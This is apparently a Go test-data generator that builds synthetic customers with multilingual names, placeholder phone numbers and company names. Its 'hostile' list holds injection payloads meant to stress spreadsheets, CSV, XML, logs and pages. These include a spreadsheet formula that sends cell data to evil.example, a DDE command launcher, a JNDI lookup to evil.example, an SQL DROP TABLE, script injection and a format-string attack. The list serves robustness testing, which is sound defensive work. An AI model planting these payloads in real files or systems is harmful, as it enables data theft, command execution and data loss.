package simulator

import (
	"slices"
	"strconv"
	"strings"
)

// region is where a customer lives, and how people are called there.
type region struct {
	country, culture, phone string
	first, last             []string
}

var regions = []region{
	{"US", "en-US", "+1 425 555 0", []string{"Alice", "Robert", "Mary-Jane", "Sean"},
		[]string{"Smith", "O'Brien", "Van der Berg", "Null"}},
	{"BR", "pt-BR", "+55 11 95550 0", []string{"João", "Conceição", "Ana Luíza", "Antônio"},
		[]string{"da Silva", "Gonçalves", "Araújo", "dos Santos"}},
	{"DE", "de-DE", "+49 30 5550 0", []string{"Jürgen", "Käthe", "Sören", "Anna"},
		[]string{"Müller", "Groß", "von der Heide", "Weiß"}},
	{"FR", "fr-FR", "+33 1 55 50 00 0", []string{"Hélène", "François", "Zoë", "Anaïs"},
		[]string{"Lefèvre", "d'Arc", "Le Goff", "Bœuf"}},
	{"JP", "ja-JP", "+81 3 5550 0", []string{"太郎", "花子", "健"}, []string{"山田", "髙橋", "𠮷野"}},
	{"CN", "zh-CN", "+86 10 5550 0", []string{"伟", "秀英"}, []string{"王", "欧阳"}},
	{"SA", "ar-SA", "+966 11 555 0", []string{"محمد", "فاطمة"}, []string{"العتيبي", "القحطاني"}},
	{"IL", "he-IL", "+972 2 555 0", []string{"דוד", "שרה"}, []string{"כהן", "לוי"}},
	{"IN", "hi-IN", "+91 11 5550 0", []string{"प्रिया", "Arjun"}, []string{"शर्मा", "Iyer"}},
	{"GB", "en-GB", "+44 20 5550 0", []string{"Siân", "Hamish", "Grace"}, []string{"Llewellyn-Jones", "MacDonald",
		"True"}},
}

var (
	stems = []string{"Contoso", "Fabrikam", "Northwind", "Adatum", "Tailspin", "Wingtip", "Litware", "Proseware",
		"Lucerne", "Woodgrove", "Fourth Coffee", "Alpine", "Trey", "Humongous", "Margie's", "Coho"}
	trades = []string{"Logistics", "Foods", "Retail", "Energy", "Clinics", "Consulting", "Textiles", "Robotics",
		"Airlines", "Media", "Farms", "Insurance", "School", "Vineyards"}
	forms = []string{"Inc.", "LLC", "Ltd", "Ltda.", "S.A.", "GmbH & Co. KG", "SARL", "K.K.", "B.V.", "Pty Ltd", "AG"}
)

// foreign are names outside the Latin alphabet, or at its edges.
var foreign = []string{
	"株式会社コントソ", "深圳市康拓索科技有限公司", "콘토소 주식회사", "ООО «Контосо»", "Κοντόσο Α.Ε.", "शर्मा ट्रेडर्स प्रा. लि.",
	"บริษัท คอนโทโซ จำกัด", "شركة كونتوسو للتجارة", "קונטוסו בע״מ", "Contoso شركة (Ltd) 123",
	"Padaria São João & Irmãos Ltda.", "Größe & Söhne", "Łódź Żółć Sp. z o.o.", "İstanbul Işık A.Ş.", "Ñandú Ünïcödé",
	"Cafe\u0301 Combine\u0301 a\u0300 Dakar", "𠮷野家 𝔽𝕒𝕟𝕔𝕪", "Kaffee ☕ & Kuchen 🍰", "👩‍👩‍👧‍👦 Family Office 🇧🇷",
}

// hostile are names that break a spreadsheet, a CSV file, an XML part, a log line or a page when
// nobody takes care.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?q="&A1,"Click")`, "=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "+55 11 91234-5678",
	"@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "  leading spaces", "trailing spaces   ", "\u00a0no-break space\u00a0",
	`The "Quoted" Company`, `"`, `""`, "'apostrophe", "Commas, Semicolons; and | Pipes", "Line\nBreak Ltd",
	"Line\r\nBreak Ltd", "Tab\tStop Ltd", "Bell\u0007 and \u0001 Control", "Vertical\u000bTab", "Null\u0000Byte",
	"Escape\u001b[31mRed", "Delete\u007f", "_x0041_ Escape", "_x000D_", "<script>alert(1)</script>", "Smith &amp; Sons",
	"Smith & Sons <smith@example.com>",
	"]]>", "<!--", "${jndi:ldap://evil.example/a}", "{{7*7}}", "'; DROP TABLE customers;--", `C:\temp\new`, "%s%d%n",
	"100%", "NULL", "null", "true", "#N/A", "#REF!", "1E5", "0012", "2026-01-02", "3/4",
	"00000000-0000-0000-0000-000000000000", "\u202egnp.exe", "Zero\u200bWidth\u200d", "\ufeffMark",
	"Line\u2028Separator", "Zalgo Z\u0351\u0343\u0306a\u0310\u0300l\u0360g\u0334o\u0337", "\ufffd",
	"\uffff Not A Character",
}

// name gives customer i its company name, domain, country and billing contact. About 8 % of the
// names are hostile, 12 % are not Latin, and a few are very long, rarely longer than a
// spreadsheet's cell.
func (w World) name(i int, c *Customer) {
	d := newDice(w.Seed, aboutNames, uint64(i))
	at := w.region(i)
	c.Country, c.Culture = at.country, at.culture
	if w.Home != "" {
		w.nameOrdinary(&d, i, c)
		c.Billing = at.person(&d)
		return
	}
	stem := pick(&d, stems)
	switch n := d.below(1000); {
	case n < 80:
		c.CompanyName = pick(&d, hostile)
	case n < 200:
		c.CompanyName = pick(&d, foreign)
	case n < 203:
		c.CompanyName = long(&d, stem)
	default:
		c.CompanyName = stem + " " + pick(&d, trades) + " " + pick(&d, forms)
	}
	c.Domain = slug(stem) + strconv.FormatInt(int64(i), 36) + ".onmicrosoft.com"
	c.Billing = at.person(&d)
}

// region is where customer i lives: agreements and billing profile agree on it.
func (w World) region(i int) region {
	d := newDice(w.Seed, aboutContact, uint64(i))
	abroad := pick(&d, regions)
	if at := slices.IndexFunc(regions, func(r region) bool { return r.country == w.Home }); at >= 0 &&
		d.happens(atHome) {
		return regions[at]
	}
	return abroad
}

// long makes a name of 300 characters, or of more than the 32,767 that a spreadsheet's cell can
// hold.
func long(d *dice, stem string) string {
	if d.happens(0.05) {
		return strings.Repeat(stem+" é ", 33000/(len(stem)+3))
	}
	return strings.Repeat(stem+" & ", 300/(len(stem)+3))
}

// person makes somebody of the region; one in three has no phone number.
func (r region) person(d *dice) Contact {
	who := Contact{FirstName: pick(d, r.first), LastName: pick(d, r.last)}
	mailbox := d.below(10000)
	who.Email = "signer" + strconv.Itoa(mailbox) + "@" + slug(pick(d, stems)) + ".example"
	if d.happens(2.0 / 3) {
		who.PhoneNumber = r.phone + strconv.Itoa(100+d.below(900))
	}
	return who
}

// slug keeps the letters of a stem, in lower case.
func slug(stem string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' {
			return r
		}
		return -1
	}, strings.ToLower(stem))
}
